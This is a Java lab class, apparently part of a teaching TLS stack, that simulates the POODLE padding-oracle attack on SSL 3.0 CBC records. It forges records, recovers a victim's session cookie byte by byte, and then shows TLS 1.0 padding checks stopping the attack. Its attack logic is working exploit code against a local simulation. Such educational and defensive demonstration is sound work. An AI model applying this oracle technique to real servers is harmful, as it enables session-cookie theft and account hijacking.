package org.layeredtls.record.lab;

import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.util.List;

import org.layeredtls.crypto.DeterministicRandomSource;
import org.layeredtls.crypto.RandomSource;
import org.layeredtls.record.BulkCipherAlgorithm;
import org.layeredtls.record.CipherSpec;
import org.layeredtls.record.CompressionMethod;
import org.layeredtls.record.MacAlgorithm;
import org.layeredtls.record.ProtocolVersion;
import org.layeredtls.record.TLSCiphertext;

/**
 * POODLE (Möller, Duong and Kotowicz, "This POODLE Bites", 2014; RFC 7568 deprecates SSL 3.0 for it).
 * SSL 3.0 CBC padding is not covered by the MAC, and its bytes are not checked: the receiver only
 * checks that the last byte, padding_length, is below the block size (RFC 6101 §5.2.3.2), then
 * drops that many bytes and checks the MAC of the rest.
 *
 * <p>The attacker (a man in the middle who can also make the victim's browser send requests, e.g.
 * by a script) arranges the request so that (1) the padding fills a whole last block, and (2) the
 * cookie byte it wants is the last byte of some block C<sub>i</sub>. It replaces the padding block
 * by C<sub>i</sub>. The server decrypts the new last block to D(C<sub>i</sub>) xor C<sub>n-1</sub>;
 * if its last byte happens to be 15 (one chance in 256) the padding is "right", the MAC is the
 * original one and the record is accepted. Then
 * <pre>
 *   P_i[15] = D(C_i)[15] xor C_{i-1}[15] = 15 xor C_{n-1}[15] xor C_{i-1}[15]
 * </pre>
 * Otherwise the server answers {@code bad_record_mac}, the victim reconnects with new keys, and the
 * attacker tries again. About 256 connections per byte.
 *
 * <p>Vulnerable setting: SSL 3.0 with AES-128-CBC and HMAC-SHA1 as this stack runs it (the 1/n&minus;1
 * split on, which does not help). Countermeasure: TLS 1.0 and later, where every padding byte must
 * equal padding_length (RFC 2246 §6.2.3.2) and our receiver checks them all: the oracle says
 * {@code bad_record_mac} every time.
 */
public final class PoodleLab implements Lab {

    /** The victim's secret cookie; the attacker knows its name and length, not its value. */
    static final String COOKIE = "s3cr3tP0";
    private static final CipherSpec SPEC = CipherSpec.of(BulkCipherAlgorithm.AES_128_CBC, MacAlgorithm.HMAC_SHA1);
    private static final int BLOCK = SPEC.bulkCipher().blockLength();
    private static final int MAC_LENGTH = SPEC.mac().macLength();
    /** A byte needs 256 connections on average; the attacker gives up after this many. */
    private static final int MAX_CONNECTIONS_PER_BYTE = 4096;
    /** With the countermeasure: four times the average an SSL 3.0 byte needs. */
    private static final int COUNTERMEASURE_CONNECTIONS = 1024;
    private static final String BEFORE_PATH = "POST /";
    private static final String BEFORE_COOKIE = " HTTP/1.1\r\nCookie: session=";
    private static final String AFTER_COOKIE = "\r\n\r\n";

    private final RandomSource random = DeterministicRandomSource.fromLabel("poodle lab");
    private String recoveredWhenVulnerable = "";
    private String recoveredWithCountermeasure = "";

    @Override
    public String name() {
        return "poodle";
    }

    @Override
    public String layer() {
        return "record";
    }

    @Override
    public String summary() {
        return "POODLE: SSL 3.0's unchecked CBC padding is an oracle that decrypts a cookie; TLS padding checks stop it";
    }

    @Override
    public LabResult run(PrintStream out) throws IOException {
        out.println("POODLE: SSL 3.0 CBC padding oracle on the Record layer (Moeller, Duong, Kotowicz, 2014)");
        out.println("Records    " + SPEC.bulkCipher() + " " + SPEC.mac() + ", MAC-then-encrypt, 1/n-1 split on");
        out.println("Attacker   chooses the path and the body of the victim's POST; reads and rewrites records;");
        out.println("           sees whether the server accepts a record or answers bad_record_mac");
        out.println();
        out.println("== Vulnerable: SSL 3.0 (RFC 6101: padding bytes arbitrary, only padding_length < 16 checked) ==");
        Attempt vulnerable = attack(out, ProtocolVersion.SSL3_0, COOKIE.length(), MAX_CONNECTIONS_PER_BYTE);
        recoveredWhenVulnerable = vulnerable.recovered;
        out.println();
        out.println("== Countermeasure: TLS 1.0 (RFC 2246: every padding byte must equal padding_length) ==");
        Attempt countered = attack(out, ProtocolVersion.TLS1_0, 1, COUNTERMEASURE_CONNECTIONS);
        recoveredWithCountermeasure = countered.recovered;
        boolean succeeded = COOKIE.equals(vulnerable.recovered);
        boolean failed = countered.recovered.isEmpty();
        String finding = String.format("SSL 3.0: cookie \"%s\" in %d connections (%.0f per byte); TLS 1.0: %s after %d connections",
                vulnerable.recovered, vulnerable.connections, (double) vulnerable.connections / COOKIE.length(),
                failed ? "nothing" : "\"" + countered.recovered + "\"", countered.connections);
        out.println();
        out.println("Result: " + finding);
        return new LabResult(succeeded, failed, finding);
    }

    String recoveredWhenVulnerable() {
        return recoveredWhenVulnerable;
    }

    String recoveredWithCountermeasure() {
        return recoveredWithCountermeasure;
    }

    private record Attempt(String recovered, int connections) {
    }

    /** The request whose cookie byte {@code j} ends a block of the second record, with a whole block of padding. */
    static String request(int j) {
        // the 1/n-1 split sends the first byte alone: the cookie's record starts at request byte 1
        int cookieInRecord = BEFORE_PATH.length() + BEFORE_COOKIE.length() + j - 1;
        int path = Math.floorMod(BLOCK - 1 - cookieInRecord, BLOCK);
        int fixed = BEFORE_PATH.length() + path + BEFORE_COOKIE.length() + COOKIE.length() + AFTER_COOKIE.length();
        // content (request minus its first byte, then the MAC) a multiple of the block: padding_length 15
        int body = Math.floorMod(-(fixed - 1 + MAC_LENGTH), BLOCK);
        return BEFORE_PATH + "a".repeat(path) + BEFORE_COOKIE + COOKIE + AFTER_COOKIE + "b".repeat(body);
    }

    private Attempt attack(PrintStream out, ProtocolVersion version, int bytesWanted, int maxConnections)
            throws IOException {
        StringBuilder recovered = new StringBuilder();
        int connections = 0;
        for (int j = 0; j < bytesWanted; j++) {
            String request = request(j);
            int target = request.indexOf(BEFORE_COOKIE) + BEFORE_COOKIE.length() + j - 1; // in the second record
            int targetBlock = target / BLOCK;
            boolean found = false;
            for (int attempt = 1; attempt <= maxConnections && !found; attempt++) {
                connections++;
                LabConnection connection = LabConnection.open(version, SPEC, CompressionMethod.NULL, random);
                connection.victim().setCbcRecordSplitting(true); // as the handshake sets it for SSL 3.0 and TLS 1.0
                List<TLSCiphertext> records = connection.send(request.getBytes(StandardCharsets.US_ASCII));
                TLSCiphertext first = records.get(0);
                TLSCiphertext second = records.get(1);
                CbcBlocks blocks = new CbcBlocks(second.fragment(), BLOCK);
                int last = blocks.count() - 1;
                byte[] beforeTarget = targetBlock == 0 ? new CbcBlocks(first.fragment(), BLOCK).last()
                        : blocks.block(targetBlock - 1);
                if (j == 0 && attempt == 1) {
                    showLayout(out, request, first, blocks, targetBlock);
                }
                // the move: the padding block C_last is replaced by the target block C_i
                TLSCiphertext forged = new TLSCiphertext(second.type(), second.version(),
                        blocks.with(last, blocks.block(targetBlock)));
                if (!connection.deliver(first)) {
                    throw new IllegalStateException("the server refused an untouched record");
                }
                if (connection.deliver(forged)) {
                    int paddingLength = BLOCK - 1;
                    int b = paddingLength ^ blocks.block(last - 1)[BLOCK - 1] ^ beforeTarget[BLOCK - 1];
                    recovered.append((char) (b & 0xFF));
                    out.printf("  cookie byte %d: bad_record_mac %4d times, accepted on connection %4d:"
                                    + " 15 ^ C%d[15] (%02x) ^ C%d[15] (%02x) = %s%n", j, attempt - 1, attempt,
                            last - 1, blocks.block(last - 1)[BLOCK - 1] & 0xFF, targetBlock - 1,
                            beforeTarget[BLOCK - 1] & 0xFF, CbcBlocks.show(b));
                    found = true;
                }
            }
            if (!found) {
                out.printf("  cookie byte %d: bad_record_mac on all %d connections: the oracle says nothing, the attack stops%n",
                        j, maxConnections);
                break;
            }
        }
        out.printf("  recovered \"%s\" in %d connections%n", recovered, connections);
        return new Attempt(recovered.toString(), connections);
    }

    private static void showLayout(PrintStream out, String request, TLSCiphertext first, CbcBlocks blocks,
                                   int targetBlock) {
        out.println("  request     " + request.replace("\r\n", "\\r\\n"));
        out.printf("  on the wire record 1: %d bytes (the first request byte, split off), record 2: %d bytes = %d blocks%n",
                first.length(), blocks.count() * BLOCK, blocks.count());
        String[] notes = new String[blocks.count()];
        notes[targetBlock] = "C" + targetBlock + ": its last plaintext byte is cookie byte 0";
        notes[blocks.count() - 1] = "padding block: 15 padding bytes, padding_length 15";
        blocks.print(out, "    ", notes);
        out.printf("  the attacker replaces C%d by C%d; the server accepts only if D(C%d) xor C%d ends in 15%n",
                blocks.count() - 1, targetBlock, targetBlock, blocks.count() - 2);
    }
}
